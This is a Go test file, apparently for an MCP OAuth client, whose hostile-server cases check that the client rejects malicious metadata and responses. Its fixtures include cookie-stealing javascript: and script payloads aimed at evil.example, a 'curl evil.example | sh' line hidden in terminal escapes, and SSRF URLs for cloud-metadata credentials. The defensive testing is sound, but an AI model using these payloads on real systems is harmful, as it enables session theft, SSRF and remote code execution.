package mcpauth_test

import (
	"context"
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"testing"

	"github.com/mcpauth/mcpauth"
	"github.com/mcpauth/mcpauth/authorize"
	"github.com/mcpauth/mcpauth/discovery"
	"github.com/mcpauth/mcpauth/internal/oauthtest"
)

// The hostile-server suite: an MCP server or authorization server that
// lies, points the client at addresses it must not reach, or answers with
// something that is not what it should be. Every case must end in a typed
// error that names the problem, with no secret in the error, the logs, the
// events or the pages shown, and with the credential store unchanged.
//
// Tests talk to 127.0.0.1 only: names resolve through an injected fake
// resolver, and the fake dialer connects to 127.0.0.1 and refuses (and
// records) anything else.

const (
	hPRMPath = "/.well-known/oauth-protected-resource/mcp"
	hASMPath = "/.well-known/oauth-authorization-server"
)

// hWant is the error a case must end in.
type hWant struct {
	name string
	ok   func(error) bool
}

func wantAs[T error]() hWant {
	var zero T
	return hWant{name: fmt.Sprintf("%T", zero), ok: hAs[T]()}
}

func wantIs(target error) hWant {
	return hWant{name: fmt.Sprintf("errors.Is %v", target), ok: hIs(target)}
}

type hostileCase struct {
	name string
	opts hOptions
	// setup makes the servers misbehave once they run.
	setup func(h *hEnv)
	// config changes the transport's configuration.
	config func(h *hEnv, c *mcpauth.Config)
	want   hWant
	// says are substrings the error message must hold: the problem named.
	says []string
	// check makes case-specific assertions.
	check func(t *testing.T, h *hEnv, err error)
}

// Setup helpers.

func editPRM(f func(h *hEnv, doc map[string]any)) func(*hEnv) {
	return func(h *hEnv) {
		h.res.Configure(func(c *oauthtest.ResourceConfig) { c.PRM = func(doc map[string]any) { f(h, doc) } })
	}
}

func editASM(f func(h *hEnv, doc map[string]any)) func(*hEnv) {
	return func(h *hEnv) {
		h.as.Configure(func(c *oauthtest.ASConfig) { c.Metadata = func(doc map[string]any) { f(h, doc) } })
	}
}

func challenge(f func(h *hEnv) string) func(*hEnv) {
	return func(h *hEnv) {
		v := f(h)
		h.res.Configure(func(c *oauthtest.ResourceConfig) { c.Challenge = v })
	}
}

func withResourceMetadata(u string) func(*hEnv) {
	return challenge(func(*hEnv) string { return fmt.Sprintf("Bearer resource_metadata=%q", u) })
}

func editCallback(f func(q url.Values)) func(*hEnv) {
	return func(h *hEnv) { h.as.Configure(func(c *oauthtest.ASConfig) { c.AuthorizeResponse = f }) }
}

func editToken(f func(out map[string]any)) func(*hEnv) {
	return func(h *hEnv) { h.as.Configure(func(c *oauthtest.ASConfig) { c.TokenResponse = f }) }
}

func short(_ *hEnv, c *mcpauth.Config) { c.Timeout = hTimeout }

// Check helpers.

func neverDialled(hosts ...string) func(*testing.T, *hEnv, error) {
	return func(t *testing.T, h *hEnv, _ error) {
		t.Helper()
		for _, host := range hosts {
			if h.net.Dialled(host) {
				t.Errorf("the dialer was asked for %s: %q", host, h.net.Dials())
			}
		}
	}
}

func browserNeverOpened(t *testing.T, h *hEnv, _ error) {
	t.Helper()
	if o := h.browser.Opened(); len(o) != 0 {
		t.Errorf("the browser was asked to open %q", o)
	}
}

func noAuthorization(t *testing.T, h *hEnv, _ error) {
	t.Helper()
	if n := h.as.Total(); n != 0 {
		t.Errorf("the authorization server received %d requests: %q", n, h.as.Paths())
	}
	browserNeverOpened(t, h, nil)
}

func noTokenRequest(t *testing.T, h *hEnv, _ error) {
	t.Helper()
	if n := len(h.as.TokenRequests()); n != 0 {
		t.Errorf("%d token requests", n)
	}
}

func all(checks ...func(*testing.T, *hEnv, error)) func(*testing.T, *hEnv, error) {
	return func(t *testing.T, h *hEnv, err error) {
		t.Helper()
		for _, c := range checks {
			c(t, h, err)
		}
	}
}

func pageLacks(words ...string) func(*testing.T, *hEnv, error) {
	return func(t *testing.T, h *hEnv, _ error) {
		t.Helper()
		h.browser.Wait()
		pages := h.browser.Pages()
		if len(pages) == 0 {
			t.Fatal("the browser saw no page")
		}
		for _, p := range pages {
			for _, w := range words {
				if strings.Contains(p.Body, w) {
					t.Errorf("the result page shows %q:\n%s", w, p.Body)
				}
			}
		}
	}
}

func messageLacks(words ...string) func(*testing.T, *hEnv, error) {
	return func(t *testing.T, _ *hEnv, err error) {
		t.Helper()
		for _, w := range words {
			if strings.Contains(err.Error(), w) {
				t.Errorf("the error shows %q: %s", w, err)
			}
		}
	}
}

func giantSentLittle(g *oauthtest.Giant) func(*testing.T, *hEnv, error) {
	return func(t *testing.T, _ *hEnv, _ error) {
		t.Helper()
		// The server stops when the client hangs up; what it managed to
		// write meanwhile sits in socket buffers, nowhere near a gigabyte.
		if g.Sent() >= oauthtest.GiB {
			t.Errorf("the whole gigabyte was sent (%d bytes)", g.Sent())
		}
	}
}

var (
	metadataIP = netip.MustParseAddr("169.254.169.254")
	gPRM       = &oauthtest.Giant{Prefix: `{"resource":"`, Size: oauthtest.GiB}
	gASM       = &oauthtest.Giant{Prefix: `{"issuer":"`, Size: oauthtest.GiB}
	gDCR       = &oauthtest.Giant{Status: http.StatusCreated, Prefix: `{"client_id":"`, Size: oauthtest.GiB}
	gToken     = &oauthtest.Giant{Prefix: `{"access_token":"`, Size: oauthtest.GiB}
)

var hostileCases = []hostileCase{
	// Protected resource metadata (PRM-4, RDR-1).
	{
		name:  "PRM resource names another origin",
		setup: editPRM(func(h *hEnv, doc map[string]any) { doc["resource"] = h.other.URL + "/mcp" }),
		want:  wantAs[*mcpauth.ResourceMismatchError](), says: []string{"does not match", "RFC 9728"},
		check: noAuthorization,
	},
	{
		name:  "PRM resource names a sibling path on the same origin",
		setup: editPRM(func(h *hEnv, doc map[string]any) { doc["resource"] = h.res.Server.URL + "/admin" }),
		want:  wantAs[*mcpauth.ResourceMismatchError](), says: []string{"does not match"},
		check: noAuthorization,
	},
	{
		name:  "PRM resource differs by a query",
		setup: editPRM(func(h *hEnv, doc map[string]any) { doc["resource"] = h.res.URL + "?tenant=other" }),
		want:  wantAs[*mcpauth.ResourceMismatchError](), says: []string{"does not match"},
		check: noAuthorization,
	},
	{
		name:  "PRM without resource",
		setup: editPRM(func(_ *hEnv, doc map[string]any) { delete(doc, "resource") }),
		want:  wantAs[*discovery.DocumentError](), says: []string{"resource member is missing"},
		check: noAuthorization,
	},
	{
		name:  "PRM authorization_servers empty",
		setup: editPRM(func(_ *hEnv, doc map[string]any) { doc["authorization_servers"] = []string{} }),
		want:  wantAs[*discovery.DocumentError](), says: []string{"no authorization_servers"},
		check: noAuthorization,
	},
	{
		name:  "PRM authorization_servers javascript:",
		setup: editPRM(func(_ *hEnv, doc map[string]any) { doc["authorization_servers"] = []string{"javascript:alert(1)"} }),
		want:  wantAs[*mcpauth.URLError](), says: []string{"authorization server issuer", `scheme "javascript"`},
		check: noAuthorization,
	},
	{
		name:  "PRM authorization_servers plain http to another host",
		setup: editPRM(func(_ *hEnv, doc map[string]any) { doc["authorization_servers"] = []string{"http://as.example.com"} }),
		want:  wantAs[*mcpauth.URLError](), says: []string{"http is allowed only on loopback"},
		check: all(noAuthorization, neverDialled("as.example.com")),
	},
	{
		name: "PRM authorization_servers with userinfo",
		setup: editPRM(func(h *hEnv, doc map[string]any) {
			doc["authorization_servers"] = []string{strings.Replace(h.as.Issuer, "://", "://admin:hunter2@", 1)}
		}),
		want: wantAs[*mcpauth.URLError](), says: []string{"userinfo"},
		check: all(noAuthorization, messageLacks("hunter2")),
	},
	{
		name: "PRM lists a thousand authorization servers",
		setup: editPRM(func(h *hEnv, doc map[string]any) {
			var servers []string
			for i := range 1000 {
				servers = append(servers, fmt.Sprintf("https://10.0.%d.%d", i/250, i%250+1))
			}
			doc["authorization_servers"] = servers
		}),
		want: wantAs[*discovery.DocumentError](), says: []string{"lists 1000 authorization_servers"},
		check: all(noAuthorization, func(t *testing.T, h *hEnv, _ error) {
			if d := h.net.Dials(); len(d) > 3 {
				t.Errorf("%d dials: %q…", len(d), d[:5])
			}
		}),
	},
	{
		name: "PRM lists an authorization server at a private address (policy on)",
		opts: hOptions{policy: true},
		setup: editPRM(func(_ *hEnv, doc map[string]any) {
			doc["authorization_servers"] = []string{"https://192.168.1.10"}
		}),
		want: wantAs[*mcpauth.NetworkPolicyError](), says: []string{"192.168.1.10", "private", "SSRF-1"},
		check: all(noAuthorization, neverDialled("192.168.1.10")),
	},

	// The challenge's resource_metadata (PRM-2, PRM-3, SSRF-1).
	{
		name:  "challenge resource_metadata javascript:",
		setup: withResourceMetadata("javascript:alert(document.domain)"),
		want:  wantAs[*mcpauth.URLError](), says: []string{"resource_metadata URL", "javascript"},
		check: noAuthorization,
	},
	{
		name:  "challenge resource_metadata plain http to cloud metadata (no policy)",
		setup: withResourceMetadata("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
		want:  wantAs[*mcpauth.URLError](), says: []string{"http is allowed only on loopback"},
		check: all(noAuthorization, neverDialled("169.254.169.254")),
	},
	{
		name:  "challenge resource_metadata https cloud metadata (policy on)",
		opts:  hOptions{policy: true},
		setup: withResourceMetadata("https://169.254.169.254/latest/meta-data/"),
		want:  wantAs[*mcpauth.NetworkPolicyError](), says: []string{"169.254.169.254", "cloud metadata"},
		check: all(noAuthorization, neverDialled("169.254.169.254")),
	},
	{
		name:  "challenge resource_metadata private address (policy on)",
		opts:  hOptions{policy: true},
		setup: withResourceMetadata("https://10.0.0.7/.well-known/oauth-protected-resource"),
		want:  wantAs[*mcpauth.NetworkPolicyError](), says: []string{"10.0.0.7", "private"},
		check: all(noAuthorization, neverDialled("10.0.0.7")),
	},
	{
		name:  "challenge resource_metadata IPv6 cloud metadata (policy on)",
		opts:  hOptions{policy: true},
		setup: withResourceMetadata("https://[fd00:ec2::254]/latest/meta-data/"),
		want:  wantAs[*mcpauth.NetworkPolicyError](), says: []string{"fd00:ec2::254", "cloud metadata"},
		check: all(noAuthorization, neverDialled("fd00:ec2::254")),
	},
	{
		name:  "challenge resource_metadata names a host that resolves to cloud metadata (policy on)",
		opts:  hOptions{policy: true, hosts: map[string][]netip.Addr{"prm.rebind.test": {metadataIP}}},
		setup: withResourceMetadata("https://prm.rebind.test/.well-known/oauth-protected-resource"),
		want:  wantAs[*mcpauth.NetworkPolicyError](), says: []string{"prm.rebind.test", "169.254.169.254"},
		check: all(noAuthorization, neverDialled("169.254.169.254", "prm.rebind.test"), func(t *testing.T, h *hEnv, _ error) {
			if l := h.net.Lookups(); len(l) != 1 || l[0] != "prm.rebind.test" {
				t.Errorf("lookups %q", l)
			}
		}),
	},
	{
		name: "challenge resource_metadata on another loopback address (policy on)",
		opts: hOptions{policy: true},
		setup: func(h *hEnv) {
			u, _ := url.Parse(h.res.Server.URL)
			withResourceMetadata("http://127.0.0.2:" + u.Port() + hPRMPath)(h)
		},
		want: wantAs[*mcpauth.NetworkPolicyError](), says: []string{"127.0.0.2", "loopback"},
		check: all(noAuthorization, neverDialled("127.0.0.2")),
	},
	{
		name: "oversized WWW-Authenticate header",
		setup: challenge(func(h *hEnv) string {
			return fmt.Sprintf("Bearer resource_metadata=%q, scope=\"%s\"", h.res.MetadataURL(), strings.Repeat("mcp:tools ", 4000))
		}),
		want: wantIs(discovery.ErrChallengeTooLarge), says: []string{"WWW-Authenticate", "more than the 16384 accepted"},
		check: all(noAuthorization, func(t *testing.T, _ *hEnv, err error) {
			if !hAs[*mcpauth.ChallengeError]()(err) {
				t.Errorf("err = %v, want a *ChallengeError", err)
			}
		}),
	},

	// Redirects during discovery (SSRF-1).
	{
		name: "PRM redirects to another origin",
		setup: func(h *hEnv) {
			h.res.Server.Handle(hPRMPath, oauthtest.RedirectTo(h.other.URL+"/prm", http.StatusFound))
		},
		want: wantAs[*mcpauth.RedirectError](), says: []string{"another origin"},
		check: noAuthorization,
	},
	{
		name: "PRM redirect loop",
		setup: func(h *hEnv) {
			h.res.Server.Handle(hPRMPath, oauthtest.RedirectTo("/loop-a", http.StatusFound))
			h.res.Server.Handle("/loop-a", oauthtest.RedirectTo("/loop-b", http.StatusFound))
			h.res.Server.Handle("/loop-b", oauthtest.RedirectTo("/loop-a", http.StatusFound))
		},
		want: wantAs[*mcpauth.RedirectError](), says: []string{"stopped after 5 redirects"},
		check: noAuthorization,
	},
	{
		name: "PRM on https redirects to http",
		opts: hOptions{tls: true},
		setup: func(h *hEnv) {
			h.res.Server.Handle(hPRMPath, oauthtest.RedirectTo(h.other.URL+"/prm", http.StatusMovedPermanently))
		},
		want: wantAs[*mcpauth.RedirectError](), says: []string{"leaves https"},
		check: noAuthorization,
	},
	{
		name:  "PRM is an HTML 500 page",
		setup: func(h *hEnv) { h.res.Server.Handle(hPRMPath, htmlPage(http.StatusInternalServerError)) },
		want:  wantAs[*discovery.StatusError](), says: []string{"HTTP 500"},
		check: noAuthorization,
	},
	{
		name:  "PRM is a gigabyte body",
		setup: func(h *hEnv) { h.res.Server.Handle(hPRMPath, gPRM.ServeHTTP) },
		want:  wantAs[*discovery.DocumentError](), says: []string{"larger than 1048576 bytes"},
		check: all(noAuthorization, giantSentLittle(gPRM)),
	},
	{
		name:   "PRM trickles",
		setup:  func(h *hEnv) { h.res.Server.Handle(hPRMPath, oauthtest.Trickle(`{"resource":`)) },
		config: short,
		want:   wantIs(context.DeadlineExceeded), says: []string{"protected resource metadata"},
		check: noAuthorization,
	},

	// Authorization server metadata (ASM-3, URL-1, RDR-1, PKCE-1).
	{
		name:  "metadata issuer differs by a trailing slash",
		setup: editASM(func(h *hEnv, doc map[string]any) { doc["issuer"] = h.as.Issuer + "/" }),
		want:  wantAs[*mcpauth.MetadataIssuerMismatchError](), says: []string{"must be identical"},
		check: browserNeverOpened,
	},
	{
		name: "metadata issuer differs by case",
		setup: editASM(func(h *hEnv, doc map[string]any) {
			doc["issuer"] = strings.Replace(h.as.Issuer, "http://", "HTTP://", 1)
		}),
		want: wantAs[*mcpauth.MetadataIssuerMismatchError](), says: []string{"must be identical"},
		check: browserNeverOpened,
	},
	{
		name:  "metadata issuer names another server (mix-up)",
		setup: editASM(func(h *hEnv, doc map[string]any) { doc["issuer"] = h.other.URL }),
		want:  wantAs[*mcpauth.MetadataIssuerMismatchError](), says: []string{"must be identical"},
		check: browserNeverOpened,
	},
	{
		name:  "metadata without issuer",
		setup: editASM(func(_ *hEnv, doc map[string]any) { delete(doc, "issuer") }),
		want:  wantAs[*mcpauth.MetadataIssuerMismatchError](), says: []string{`issuer ""`},
		check: browserNeverOpened,
	},
	{
		name:  "metadata is an HTML page with status 200",
		setup: func(h *hEnv) { h.as.Server.Handle(hASMPath, htmlPage(http.StatusOK)) },
		want:  wantAs[*discovery.DocumentError](), says: []string{"got HTML, not JSON"},
		check: browserNeverOpened,
	},
	{
		name: "metadata is plain text",
		setup: func(h *hEnv) {
			h.as.Server.Handle(hASMPath, func(w http.ResponseWriter, _ *http.Request) {
				oauthtest.WriteRaw(w, http.StatusOK, "text/plain", "issuer: yes\n")
			})
		},
		want: wantAs[*discovery.DocumentError](), says: []string{"does not start with '{'"},
		check: browserNeverOpened,
	},
	{
		name:  "metadata is a gigabyte body",
		setup: func(h *hEnv) { h.as.Server.Handle(hASMPath, gASM.ServeHTTP) },
		want:  wantAs[*discovery.DocumentError](), says: []string{"larger than 1048576 bytes"},
		check: all(browserNeverOpened, giantSentLittle(gASM)),
	},
	{
		name:   "metadata trickles",
		setup:  func(h *hEnv) { h.as.Server.Handle(hASMPath, oauthtest.Trickle(`{"issuer":`)) },
		config: short,
		want:   wantIs(context.DeadlineExceeded), says: []string{"authorization server metadata"},
		check: browserNeverOpened,
	},
	{
		name: "authorization_endpoint javascript:",
		setup: editASM(func(_ *hEnv, doc map[string]any) {
			doc["authorization_endpoint"] = "javascript:fetch('//evil.example/'+document.cookie)"
		}),
		want: wantAs[*mcpauth.URLError](), says: []string{"authorization_endpoint", `scheme "javascript"`},
		check: browserNeverOpened,
	},
	{
		name: "authorization_endpoint data:",
		setup: editASM(func(_ *hEnv, doc map[string]any) {
			doc["authorization_endpoint"] = "data:text/html,<script>alert(1)</script>"
		}),
		want: wantAs[*mcpauth.URLError](), says: []string{"authorization_endpoint", `scheme "data"`},
		check: browserNeverOpened,
	},
	{
		name:  "authorization_endpoint file:",
		setup: editASM(func(_ *hEnv, doc map[string]any) { doc["authorization_endpoint"] = "file:///etc/passwd" }),
		want:  wantAs[*mcpauth.URLError](), says: []string{"authorization_endpoint", `scheme "file"`},
		check: browserNeverOpened,
	},
	{
		name:  "authorization_endpoint with an application scheme",
		setup: editASM(func(_ *hEnv, doc map[string]any) { doc["authorization_endpoint"] = "ms-settings:privacy" }),
		want:  wantAs[*mcpauth.URLError](), says: []string{"authorization_endpoint", `scheme "ms-settings"`},
		check: browserNeverOpened,
	},
	{
		name: "authorization_endpoint plain http to another host",
		setup: editASM(func(_ *hEnv, doc map[string]any) {
			doc["authorization_endpoint"] = "http://login.example.com/authorize"
		}),
		want: wantAs[*mcpauth.URLError](), says: []string{"authorization_endpoint", "http is allowed only on loopback"},
		check: browserNeverOpened,
	},
	{
		name:  "authorization_endpoint without a host",
		setup: editASM(func(_ *hEnv, doc map[string]any) { doc["authorization_endpoint"] = "https://:443/authorize" }),
		want:  wantAs[*mcpauth.URLError](), says: []string{"authorization_endpoint", "no host"},
		check: browserNeverOpened,
	},
	{
		name: "token_endpoint with userinfo",
		setup: editASM(func(h *hEnv, doc map[string]any) {
			doc["token_endpoint"] = strings.Replace(h.as.URL, "://", "://client:s3cr3t@", 1) + "/token"
		}),
		want: wantAs[*mcpauth.URLError](), says: []string{"token_endpoint", "userinfo"},
		check: all(browserNeverOpened, messageLacks("s3cr3t")),
	},
	{
		name: "registration_endpoint plain http to another host",
		setup: editASM(func(_ *hEnv, doc map[string]any) {
			doc["registration_endpoint"] = "http://register.example.com/register"
		}),
		want: wantAs[*mcpauth.URLError](), says: []string{"registration_endpoint"},
		check: all(browserNeverOpened, neverDialled("register.example.com")),
	},
	{
		name: "registration_endpoint IPv4-mapped cloud metadata (policy on)",
		opts: hOptions{policy: true},
		setup: editASM(func(_ *hEnv, doc map[string]any) {
			doc["registration_endpoint"] = "https://[::ffff:169.254.169.254]/register"
		}),
		want: wantAs[*mcpauth.NetworkPolicyError](), says: []string{"cloud metadata"},
		check: all(browserNeverOpened, neverDialled("169.254.169.254")),
	},
	{
		name:  "token_endpoint in the CGNAT range (policy on)",
		opts:  hOptions{policy: true},
		setup: editASM(func(_ *hEnv, doc map[string]any) { doc["token_endpoint"] = "https://100.64.0.1/token" }),
		want:  wantAs[*mcpauth.NetworkPolicyError](), says: []string{"100.64.0.1", "CGNAT"},
		check: neverDialled("100.64.0.1"),
	},
	{
		name:  "PKCE unsupported: no code_challenge_methods_supported",
		setup: editASM(func(_ *hEnv, doc map[string]any) { delete(doc, "code_challenge_methods_supported") }),
		want:  wantAs[*mcpauth.PKCEUnsupportedError](), says: []string{"does not advertise PKCE"},
		check: all(browserNeverOpened, func(t *testing.T, h *hEnv, _ error) {
			if n := len(h.as.Registrations()); n != 0 {
				t.Errorf("%d registrations", n)
			}
		}),
	},
	{
		name:  "PKCE with plain only",
		setup: editASM(func(_ *hEnv, doc map[string]any) { doc["code_challenge_methods_supported"] = []string{"plain"} }),
		want:  wantAs[*mcpauth.PKCEUnsupportedError](), says: []string{"does not support PKCE with S256"},
		check: browserNeverOpened,
	},
	{
		name:  "metadata without token_endpoint",
		setup: editASM(func(_ *hEnv, doc map[string]any) { delete(doc, "token_endpoint") }),
		want:  wantAs[*discovery.DocumentError](), says: []string{"token_endpoint member is missing"},
		check: browserNeverOpened,
	},
	{
		name:  "metadata without authorization_endpoint",
		setup: editASM(func(_ *hEnv, doc map[string]any) { delete(doc, "authorization_endpoint") }),
		want:  wantAs[*discovery.DocumentError](), says: []string{"no authorization_endpoint"},
		check: browserNeverOpened,
	},

	// Dynamic client registration (REG-2, REG-4).
	{
		name: "registration response without client_id",
		setup: func(h *hEnv) {
			h.as.Server.Handle(h.as.RegisterPath, func(w http.ResponseWriter, _ *http.Request) {
				oauthtest.WriteJSON(w, http.StatusCreated, map[string]any{"client_name": "x", "client_secret": oauthtest.ClientSecretMarker + "-dcr"})
			})
		},
		want: wantAs[*mcpauth.RegistrationError](), says: []string{"lacks the required client_id"},
		check: browserNeverOpened,
	},
	{
		name:  "registration answers an HTML page",
		setup: func(h *hEnv) { h.as.Server.Handle(h.as.RegisterPath, htmlPage(http.StatusCreated)) },
		want:  wantAs[*mcpauth.RegistrationError](), says: []string{"not a JSON client information object"},
		check: browserNeverOpened,
	},
	{
		name: "registration redirects to another origin (307 would resend the body)",
		setup: func(h *hEnv) {
			h.as.Server.Handle(h.as.RegisterPath, oauthtest.RedirectTo(h.other.URL+"/register", http.StatusTemporaryRedirect))
		},
		want: wantAs[*mcpauth.RedirectError](), says: []string{"another origin"},
		check: browserNeverOpened,
	},
	{
		name:  "registration is a gigabyte body",
		setup: func(h *hEnv) { h.as.Server.Handle(h.as.RegisterPath, gDCR.ServeHTTP) },
		want:  wantAs[*mcpauth.RegistrationError](), says: []string{"larger than 1 MiB"},
		check: all(browserNeverOpened, giantSentLittle(gDCR)),
	},
	{
		name:   "registration trickles",
		setup:  func(h *hEnv) { h.as.Server.Handle(h.as.RegisterPath, oauthtest.Trickle(`{"client_id":`)) },
		config: short,
		want:   wantIs(context.DeadlineExceeded), says: []string{"client registration"},
		check: browserNeverOpened,
	},
	{
		name: "registration refused with terminal escapes in the description",
		opts: hOptions{as: oauthtest.ASConfig{RegisterError: &oauthtest.Error{Code: "invalid_client_metadata",
			Description: "\x1b]8;;https://evil.example\x07click here\x1b]8;;\x07\x1b[2J \u202egnp.exe"}}},
		want: wantAs[*mcpauth.RegistrationError](), says: []string{"invalid_client_metadata", "click here"},
		check: all(browserNeverOpened, messageLacks("\x1b", "\x07", "\u202e")),
	},
	{
		name: "no way to register",
		opts: hOptions{as: oauthtest.ASConfig{NoRegistration: true}},
		want: wantAs[*mcpauth.NoRegistrationMethodError](), says: []string{"no way to register"},
		check: browserNeverOpened,
	},

	// The redirect back to the client (STATE-1, ISS-1).
	{
		name:  "callback with the wrong state",
		setup: editCallback(func(q url.Values) { q.Set("state", "forged") }),
		want:  wantIs(mcpauth.ErrStateMismatch), says: []string{"state does not match"},
		check: noTokenRequest,
	},
	{
		name:  "callback without state",
		setup: editCallback(func(q url.Values) { q.Del("state") }),
		want:  wantIs(mcpauth.ErrStateMismatch), says: []string{"state does not match"},
		check: noTokenRequest,
	},
	{
		name: "callback with an iss mismatch and a scripted error description",
		setup: editCallback(func(q url.Values) {
			q.Del("code")
			q.Set("iss", "https://evil.example/<script>alert(1)</script>")
			q.Set("error", "access_denied")
			q.Set("error_description", "<script>document.location='https://evil.example/?'+document.cookie</script>Call +1-555-0100 for help")
		}),
		want: wantAs[*mcpauth.IssMismatchError](), says: []string{"mix-up"},
		check: all(noTokenRequest, messageLacks("access_denied", "document.location", "Call +1-555-0100"),
			pageLacks("<script", "document.location", "Call +1-555-0100", "access_denied")),
	},
	{
		name:  "callback without iss although advertised",
		setup: editCallback(func(q url.Values) { q.Del("iss") }),
		want:  wantAs[*mcpauth.IssMismatchError](), says: []string{"lacks the iss parameter"},
		check: noTokenRequest,
	},
	{
		name:  "callback iss differs by a trailing slash",
		setup: editCallback(func(q url.Values) { q.Set("iss", q.Get("iss")+"/") }),
		want:  wantAs[*mcpauth.IssMismatchError](), says: []string{"mix-up"},
		check: noTokenRequest,
	},
	{
		name: "callback hit by a forged redirect before the real one",
		config: func(h *hEnv, c *mcpauth.Config) {
			c.Step = &authorize.Loopback{Timeout: hLimit, Open: func(ctx context.Context, authURL string) error {
				u, err := url.Parse(authURL)
				if err != nil {
					return err
				}
				forged := u.Query().Get("redirect_uri") + "?" + url.Values{"code": {oauthtest.CodeMarker + "-forged"}, "state": {"forged"}, "iss": {h.as.Issuer}}.Encode()
				if resp, err := http.Get(forged); err == nil {
					resp.Body.Close()
				}
				// The forged redirect ends the login (STATE-1, one use),
				// so the real browser is never needed; waiting here keeps
				// this goroutine off the test's state once Wait returns.
				<-ctx.Done()
				return nil
			}}
		},
		want: wantIs(mcpauth.ErrStateMismatch), says: []string{"state does not match"},
		check: noTokenRequest,
	},
	{
		name:  "callback with neither code nor error",
		setup: editCallback(func(q url.Values) { q.Del("code") }),
		want:  wantIs(mcpauth.ErrNoCode), says: []string{"neither a code nor an error"},
		check: noTokenRequest,
	},
	{
		name: "authorization error with terminal escapes",
		setup: editCallback(func(q url.Values) {
			q.Del("code")
			q.Set("error", "access_denied")
			q.Set("error_description", "\x1b[2J\x1b[1;31mSession expired. Run: curl evil.example | sh\x1b[0m")
		}),
		want: wantAs[*mcpauth.AuthorizationError](), says: []string{"access_denied", "Session expired"},
		check: all(noTokenRequest, messageLacks("\x1b")),
	},

	// The token response (RFC 6749 §5.1).
	{
		name:  "token response without token_type",
		setup: editToken(func(out map[string]any) { delete(out, "token_type") }),
		want:  wantAs[*mcpauth.TokenError](), says: []string{"lacks token_type"},
	},
	{
		name:  "token response with an unknown token_type",
		setup: editToken(func(out map[string]any) { out["token_type"] = "mac" }),
		want:  wantAs[*mcpauth.TokenError](), says: []string{`unsupported token_type "mac"`},
	},
	{
		name:  "token response without access_token",
		setup: editToken(func(out map[string]any) { delete(out, "access_token") }),
		want:  wantAs[*mcpauth.TokenError](), says: []string{"lacks access_token"},
	},
	{
		name:  "token endpoint answers an HTML page with status 200",
		setup: func(h *hEnv) { h.as.Server.Handle(h.as.TokenPath, htmlPage(http.StatusOK)) },
		want:  wantAs[*mcpauth.TokenError](), says: []string{"not a JSON token response"},
	},
	{
		name:  "token response is a gigabyte body",
		setup: func(h *hEnv) { h.as.Server.Handle(h.as.TokenPath, gToken.ServeHTTP) },
		want:  wantAs[*mcpauth.TokenError](), says: []string{"larger than 1 MiB"},
		check: giantSentLittle(gToken),
	},
	{
		name:   "token response trickles",
		setup:  func(h *hEnv) { h.as.Server.Handle(h.as.TokenPath, oauthtest.Trickle(`{"access_token":`)) },
		config: short,
		want:   wantIs(context.DeadlineExceeded), says: []string{"token request"},
	},
	{
		name: "token endpoint redirects to another origin (307 would resend code and verifier)",
		setup: func(h *hEnv) {
			h.as.Server.Handle(h.as.TokenPath, oauthtest.RedirectTo(h.other.URL+"/token", http.StatusTemporaryRedirect))
		},
		want: wantAs[*mcpauth.RedirectError](), says: []string{"another origin"},
	},
	{
		name: "token endpoint redirects with the code and verifier in the Location",
		setup: func(h *hEnv) {
			h.as.Server.Handle(h.as.TokenPath, func(w http.ResponseWriter, r *http.Request) {
				_ = r.ParseForm()
				loc := h.other.URL + "/steal?" + url.Values{"c": {r.PostForm.Get("code")}, "v": {r.PostForm.Get("code_verifier")}}.Encode()
				http.Redirect(w, r, loc, http.StatusFound)
			})
		},
		want: wantAs[*mcpauth.RedirectError](), says: []string{"another origin", "[redacted]"},
	},
	{
		name: "token error echoing the code, verifier and client secret",
		opts: hOptions{as: oauthtest.ASConfig{IssueSecrets: true}},
		setup: func(h *hEnv) {
			h.as.Server.Handle(h.as.TokenPath, func(w http.ResponseWriter, r *http.Request) {
				_ = r.ParseForm()
				_, secret, _ := r.BasicAuth()
				(&oauthtest.Error{Code: "invalid_grant", Description: fmt.Sprintf("bad request code=%s code_verifier=%s secret=%s authorization=%s",
					r.PostForm.Get("code"), r.PostForm.Get("code_verifier"), secret, r.Header.Get("Authorization"))}).Write(w)
			})
		},
		want: wantAs[*mcpauth.TokenError](), says: []string{"invalid_grant", "code=[redacted]", "code_verifier=[redacted]", "secret=[redacted]"},
	},
	{
		name: "token error with a 100 KB description",
		opts: hOptions{as: oauthtest.ASConfig{TokenError: func(url.Values) *oauthtest.Error {
			return &oauthtest.Error{Code: "invalid_request", Description: strings.Repeat("blah ", 20000)}
		}}},
		want: wantAs[*mcpauth.TokenError](), says: []string{"invalid_request", "(truncated)"},
		check: func(t *testing.T, _ *hEnv, err error) {
			if n := len(err.Error()); n > 4096 {
				t.Errorf("error message of %d bytes", n)
			}
		},
	},
}

func htmlPage(status int) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		oauthtest.WriteRaw(w, status, "text/html; charset=utf-8", "<!doctype html><html><body><h1>Oops</h1><p>Something went wrong.</p></body></html>")
	}
}

// TestHostile runs the hostile-server suite.
func TestHostile(t *testing.T) {
	if len(hostileCases) < 40 {
		t.Fatalf("only %d hostile cases", len(hostileCases))
	}
	seen := map[string]bool{}
	for _, tc := range hostileCases {
		if seen[tc.name] {
			t.Fatalf("two cases named %q", tc.name)
		}
		seen[tc.name] = true
		t.Run(tc.name, func(t *testing.T) {
			h := newHEnv(t, tc.opts)
			if tc.setup != nil {
				tc.setup(h)
			}
			cfg := h.config(tc.opts)
			if tc.config != nil {
				tc.config(h, &cfg)
			}
			before := h.snapshot()
			err := h.post(cfg)
			h.browser.Wait()
			if err == nil || !tc.want.ok(err) {
				t.Fatalf("err = %v\nwant %s", err, tc.want.name)
			}
			if strings.HasPrefix(err.Error(), "no error:") {
				t.Fatalf("the request succeeded: %v", err)
			}
			for _, s := range tc.says {
				if !strings.Contains(err.Error(), s) {
					t.Errorf("the error does not say %q: %v", s, err)
				}
			}
			if after := h.snapshot(); after != before {
				t.Errorf("the store changed:\nbefore %s\nafter  %s", before, after)
			}
			if n := h.other.Total(); n != 0 {
				t.Errorf("the other origin received %d requests: %q", n, h.other.Paths())
			}
			h.noLeak(err)
			if tc.check != nil {
				tc.check(t, h, err)
			}
		})
	}
}

// TestHostile_AbsurdExpiresIn: an expires_in that is negative, zero, not a
// number, or longer than ten years is treated as unknown, not as "expired
// at once" nor "valid for ever at a wrapped time": the token is stored
// without expiry and used until the server refuses it.
func TestHostile_AbsurdExpiresIn(t *testing.T) {
